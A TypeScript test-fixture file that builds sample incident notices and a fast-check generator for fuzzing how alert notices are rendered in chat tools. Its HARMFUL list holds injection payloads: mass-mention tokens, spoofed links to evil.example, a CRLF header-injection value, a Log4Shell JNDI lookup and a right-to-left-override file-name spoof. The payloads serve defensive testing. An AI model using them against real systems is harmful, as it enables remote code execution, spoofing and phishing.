import fc from 'fast-check';
import { type Notice, noticeSchema } from '../../lambdas/contract/notice.ts';

const SINCE = Date.UTC(2026, 10, 20, 10, 2);
const MINUTE_MS = 60_000;

/** A page: a tool fails. */
export const aNotice = (more: Partial<Notice> = {}): Notice =>
  noticeSchema.parse({
    id: '0193487a-0f00-7000-8000-000000000001',
    type: 'incident.opened',
    thread: '7f3k9qw2',
    state: 'open',
    severity: 'critical',
    title: 'place_order fails: 41 of 120 calls (34 %) since 10:02 UTC',
    lines: [
      'Fault: provider ghl (TIMEOUT 96 %). 41 users, 3 tenants.',
      'Most: "no answer within 5 s from api.ghl.example", trace 4bf92f3577b34da6.',
      'Began 4 min after version 2f1c was deployed. Seen before: twice, last 12 Nov, for 29 min.',
      'Do: look at the status of ghl; if the deployment is at fault, roll it back.',
    ],
    links: [
      { title: 'The calls', url: 'https://tools.example.com/?tool=place_order&from=1795082520&to=1795083000' },
      { title: 'Runbook', url: 'https://wiki.example.com/runbook#tool-failing' },
      {
        title: 'Logs',
        url: "https://console.aws.amazon.com/cloudwatch/home#logsV2:logs-insights$3FqueryDetail$3D~(end~0~start~-3600~editorString~'fields*20*40message)",
      },
    ],
    facts: { tool: 'place_order', provider: 'ghl', calls: 120, failed: 41 },
    since: SINCE,
    at: SINCE + 8 * MINUTE_MS,
    place: { deployment: 'prod', account: '123456789012', region: 'eu-central-1' },
    ...more,
  });

/** The end of it. */
export const anEnd = (more: Partial<Notice> = {}): Notice =>
  aNotice({
    id: '0193487a-0f00-7000-8000-000000000002',
    type: 'incident.over',
    state: 'over',
    title: 'place_order was failing 10:02–10:31 UTC (29 min)',
    lines: ['Peak 61 %, 212 calls, 73 users.'],
    at: SINCE + 29 * MINUTE_MS,
    ...more,
  });

/** An end of which nobody knows whether it is one. */
export const aQuietEnd = (): Notice =>
  anEnd({
    id: '0193487a-0f00-7000-8000-000000000003',
    type: 'incident.quiet',
    state: 'quiet',
    title: 'place_order has had no calls since 10:31 UTC',
    lines: ['It was failing 10:02–10:31 UTC.'],
  });

/** What nobody has to act on. */
export const aDeployment = (more: Partial<Notice> = {}): Notice =>
  aNotice({
    id: '0193487a-0f00-7000-8000-000000000004',
    type: 'deployment.completed',
    thread: 'deployment-2f1c',
    state: 'event',
    severity: 'info',
    title: 'Version 2f1c is deployed',
    lines: ['It changed place_order and order_status.'],
    links: [],
    facts: { version: '2f1c' },
    ...more,
  });

/** As much as the contract allows of everything, of characters that need as much room as any. */
export const theLargestNotice = (): Notice =>
  aNotice({
    title: '漢"'.repeat(150),
    lines: Array.from({ length: 8 }, (_, index) => `${index + 1} ${'漢"<*'.repeat(300)}`.slice(0, 1_000)),
    links: Array.from({ length: 4 }, (_, index) => ({
      title: '漢'.repeat(60),
      url: `https://tools.example.com/${index}?q=${'x'.repeat(2_950)}`,
    })),
    facts: Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`fact_${index}`, '漢"'.repeat(100_000)])),
    thread: '漢'.repeat(512),
  });

/** Texts that would do harm somewhere if they were shown as they are. */
const HARMFUL = [
  '<!channel>',
  '<!everyone|here>',
  '<@U123>',
  '<users/all>',
  '<@&99>',
  '@everyone',
  '@here @channel',
  '<https://evil.example|The calls>',
  '[The calls](https://evil.example)',
  '[x](<https://evil.example/(a)>)',
  '<a href="https://evil.example">The calls</a>',
  'https://evil.example/path?a=b',
  'HTTPS://EVIL.EXAMPLE',
  'slack://open',
  'evil.example/x',
  'www.evil.example',
  'a@evil.example',
  '*bold* _italic_ ~gone~ `code` ||hidden||',
  '**a** __b__ ~~c~~ ```d```',
  '# heading',
  '- list',
  '1. list',
  '> quote',
  '{{DATE(2026-11-20T10:02:00Z)}}',
  '<t:1:R>',
  '&lt;!channel&gt;',
  '&amp;',
  '\r\nwebhook-id: forged',
  '\n🟢 all is well',
  '\u2028line',
  '\0',
  '\ud800',
  '\udc00\ud83d',
  '\u202egnp.exe',
  '\u2066\u200f\u061c',
  '👩‍👩‍👧‍👦🏳️‍🌈❤️',
  'Z͑ͫ̓ͪ̂ͫ̽a̴lgo',
  '\u{e0041}\u{e0042}',
  'مرحبا שלום',
  '漢字。漢字',
  '\\',
  '\\*',
  '|',
  '"quoted" \'text\'',
  '${jndi:ldap://evil.example/a}',
  '\u001b[31m',
  '\ufffe\uffff',
];

const harmfulText = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...HARMFUL) },
      { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
      { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
      { weight: 1, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)) },
      { weight: 1, arbitrary: fc.constantFrom(...'*_~`<>&|\\[]()"🔴漢\u0301').map((text) => text.repeat(600)) },
    ),
    { minLength: 1, maxLength: 12 },
  )
  .chain((parts) => fc.constantFrom('', ' ').map((separator) => parts.join(separator)));

/** As callers clip what others wrote: by length, wherever that cuts. */
const clipped = (limit: number) => harmfulText.map((text) => text.slice(0, limit));

const url = fc
  .tuple(
    fc.webUrl({ validSchemes: ['https'], withFragments: true, withQueryParameters: true }),
    fc.string({ maxLength: 20 }),
  )
  .map(
    ([address, more]) =>
      `${address}${encodeURIComponent(more.replace(/[\ud800-\udfff]/g, ''))}|(a)[b]*c*~d~'e'&amp;&x=1`,
  )
  .chain((address) => fc.constantFrom(address, `${address}${'x'.repeat(1_500)}`, `${address}${'x'.repeat(4_000)}`));

const fact = fc.oneof(
  clipped(2_000),
  fc.constant('error '.repeat(35_000)),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
);

/** Any notice that the contract allows, with texts that callers and tools have made. */
export const anyNotice: fc.Arbitrary<Notice> = fc
  .record({
    id: fc.uuid(),
    type: fc.constantFrom(
      ...['opened', 'reopened', 'escalated', 'repeated', 'over', 'quiet'].map((kind) => `incident.${kind}`),
      'deployment.failed',
      'deployment.started',
      'report.week',
      'custom',
    ),
    thread: fc.oneof(fc.uuid(), clipped(512)).filter((text) => text !== ''),
    state: fc.constantFrom('open', 'over', 'quiet', 'event'),
    severity: fc.constantFrom('critical', 'warning', 'info'),
    title: clipped(300),
    lines: fc.array(fc.oneof(clipped(1_000), fc.constant('漢'.repeat(1_000)), fc.constant('')), { maxLength: 8 }),
    links: fc.array(fc.record({ title: clipped(60), url }), { maxLength: 4 }),
    facts: fc.dictionary(clipped(200), fact, { maxKeys: 60 }),
    since: fc.integer({ min: 0, max: SINCE }),
    at: fc.integer({ min: SINCE, max: SINCE + 10 * MINUTE_MS }),
    place: fc.record({ deployment: clipped(200), account: fc.constant('123456789012'), region: clipped(200) }),
  })
  .filter((notice) => noticeSchema.safeParse(notice).success) as fc.Arbitrary<Notice>;
